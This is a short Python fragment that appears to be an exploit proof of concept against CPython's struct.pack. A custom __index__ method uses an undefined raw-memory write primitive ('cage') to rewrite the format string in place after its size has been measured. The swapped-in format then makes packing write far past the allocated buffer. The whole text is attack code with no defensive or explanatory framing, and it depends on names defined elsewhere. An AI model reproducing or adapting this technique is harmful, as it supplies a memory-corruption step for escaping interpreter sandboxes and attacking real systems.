# __index__ changes the format of struct.pack after its size was measured.
import struct
fmt = "i" + "b" * 20 + "q" + str(attempt % 1)[:0]
fmt = "".join([fmt])
class I:
    def __index__(self):
        cage.write(id(fmt) + 16 + 1, b"%019dx" % DISTANCE)      # instead of 20 times "b"
        return 1
DISTANCE = 12 << 30       # from the result, rounded up to 8; nothing is there: a crash shows the write
print(struct.pack(fmt, I(), 0x4142434445464748, *[0] * 20))
